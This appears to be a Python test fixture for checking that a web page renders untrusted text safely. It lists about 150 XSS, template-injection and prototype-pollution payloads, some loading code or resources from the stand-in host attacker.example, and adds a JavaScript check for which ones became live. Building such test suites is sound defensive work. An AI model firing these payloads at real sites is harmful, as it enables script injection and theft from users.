"""Texts that try to become script, markup, style or a request. Each one that runs sets ``window.__hit``."""

from __future__ import annotations

HIT = "window.__hit=1"
AWAY = "https://attacker.example/x"

SCRIPTS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</SCRIPT ><script>{HIT}//",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script/x>{HIT}</script>",
    f"<script\n>{HIT}</script\n>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script src='{AWAY}.js'></script>",
    f"<script type=module>import('{AWAY}.js');{HIT}</script>",
    f"<script nonce>{HIT}</script>",
)
COMMENTS = (
    f"<!--<script>{HIT}",
    f"--><script>{HIT}</script>",
    f"<!--<script></script>--><script>{HIT}</script>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"--!><img src=x onerror={HIT}>",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"]]><script>{HIT}</script>",
    f"<?xml version='1.0'?><script>{HIT}</script>",
    f"<!DOCTYPE html [<!ENTITY x '{HIT}'>]>&x;",
)
HANDLERS = (
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"`><img src=x onerror=`{HIT}`>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' onmouseover='{HIT}' x='",
    f" onpointerenter={HIT} ",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x:x onerror\n={HIT}>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src onloadstart={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={HIT}>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={HIT}>",
)
FOREIGN = (
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}'/></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{HIT}><a>x</a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT}>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"</text></svg><script>{HIT}</script>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<math href=javascript:{HIT}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<template><script>{HIT}</script></template>",
    f"<template shadowrootmode=open><script>{HIT}</script></template>",
)
FRAMES = (
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.__hit=1'></iframe>",
    f"<object data='data:text/html,<script>parent.{HIT}</script>'></object>",
    f"<embed src='{AWAY}.swf'>",
    f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
    f"<form><input formaction=javascript:{HIT} type=image src={AWAY}.png></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<base href='https://attacker.example/'>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<link rel=prefetch href='{AWAY}'>",
    f"<img src='{AWAY}.png'>",
    f"<img srcset='{AWAY}.png 1x'>",
    f"<a href={AWAY} ping={AWAY}>x</a>",
)
ADDRESSES = (
    f"<a href='javascript:{HIT}'>x</a>",
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"java\nscript:{HIT}",
    f"\u0001javascript:{HIT}",
    f"\u00a0javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{HIT}",
    f"https://user:{HIT}@attacker.example\\@example.org/",
    f"//attacker.example/x?'\"><script>{HIT}</script>",
    f"..%2f..%2f#edge=<img src=x onerror={HIT}>",
)
ENDS = tuple(
    f"</{tag}><script>{HIT}</script>"
    for tag in ("title", "style", "textarea", "noscript", "xmp", "plaintext", "select", "svg", "table")
)
STYLES = (
    f"<style>@import '{AWAY}.css';</style>",
    f"<b style='background:url({AWAY}.png)'>",
    f"red;background:url({AWAY}.png)",
    f"}}*{{background:url({AWAY}.png)}}",
    f"expression({HIT})",
    f"</style><b style=-moz-binding:url({AWAY}.xml#x)>",
    f"url(javascript:{HIT})",
    f"\\3c script\\3e {HIT}",
)
TEMPLATES = (
    f"{{{{ {HIT} }}}}",
    f"{{% print({HIT}) %}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}{% raw %}",
    f"${{{HIT}}}",
    f"`-{HIT}-`",
    f"`${{{HIT}}}`",
    f"#{{{HIT}}}",
    f"<%= {HIT} %>",
    f"[[constructor.constructor('{HIT}')()]]",
)
BREAKERS = (
    f"';{HIT};//",
    f'";{HIT};//',
    f"\\';{HIT};//",
    f'\\";{HIT};//',
    f'"}}]}};{HIT};//',
    f"\\\n{HIT}",
    f"*/{HIT}/*",
    f"\u2028{HIT}\u2029",
    f"\u0085{HIT}",
    '","x":1,"__proto__":{"__hit":1}',
    f"\\u0022;{HIT};//",
    f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
)
ENCODED = (
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={HIT}&#x3E;",
    f"&amp;lt;script&amp;gt;{HIT}",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"＜script＞{HIT}＜/script＞",
    f"‹script›{HIT}‹/script›",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\xc0\xbcscript\xc0\xbe{HIT}",
    f"<\u0130mg src=x onerror={HIT}>",
    f"<ſcript>{HIT}</ſcript>",
)
SIGNS = (
    f"\x00<script>{HIT}</script>",
    f"<scr\x00ipt>{HIT}</scr\x00ipt>",
    f"\x08\x0c\x1b[31m<script>{HIT}</script>",
    f"\ufffe\uffff<script>{HIT}</script>",
    f"\ufeff<script>{HIT}</script>",
    f"\u202e>tpircs/<{HIT}>tpircs<",
    f"\u2066<script>{HIT}</script>\u2069",
    f"\u200b<\u200bscript>{HIT}",
    "Ж" + "\u0301" * 200,
    f"<script>{HIT}</script>مرحبا שלום",
    f"🕊\U000e0001<script>{HIT}</script>",
)
KEYS = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "length",
    "null",
    "undefined",
    "NaN",
)
LONG = ("<b>" * 90 + f"<script>{HIT}</script>", "A" * 300 + f"<img src=x onerror={HIT}>")

VERY_LONG = "<i>" * 4_000 + f"<script>{HIT}</script>"

PAYLOADS = (
    *(*SCRIPTS, *COMMENTS, *HANDLERS, *FOREIGN, *FRAMES, *ADDRESSES, *ENDS, *STYLES),
    *(*TEMPLATES, *BREAKERS, *ENCODED, *SIGNS, *KEYS, *LONG),
)

WHAT_RAN = """() => {
  const tags = "script, iframe, frame, object, embed, base, form, link, meta, img, image, video, audio,"
    + "math, use, animate, set, foreignObject, template, marquee";
  const own = new Set(["script", "link", "meta"]);
  const odd = [...document.querySelectorAll(tags)].map((one) => one.localName).filter((name) => !own.has(name));
  const counts = [...own].map((name) => document.querySelectorAll(name).length);
  const attributes = [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes]);
  const addresses = ["href", "src", "action", "formaction", "srcdoc", "srcset", "ping", "xlink:href", "data"];
  const sound = /^(#|https?:|data:,$|(\\.\\.\\/)?(actors\\/)?[\\w.-]+$)/i;
  const active = /url|expression|binding|import/i;
  const found = (isOdd) => attributes.filter(isOdd).map(({ name, value }) => `${name}=${value}`);
  return {
    hit: window.__hit ?? Object.prototype.__hit ?? null, odd, counts,
    handlers: found(({ name }) => name.startsWith("on")),
    addresses: found(({ name, value }) => addresses.includes(name) && !sound.test(value)),
    styles: found(({ name, value }) => name === "style" && active.test(value)),
  };
}"""
"""What of the payloads got into the opened document as more than text: a hit, elements, handlers, addresses, styles."""


def harmless(scripts: int) -> dict[str, object]:
    """The answer to ``WHAT_RAN`` of a page on which everything stayed text; ``scripts`` is how many are its own."""
    return {"hit": None, "odd": [], "counts": [scripts, 1, 5], "handlers": [], "addresses": [], "styles": []}
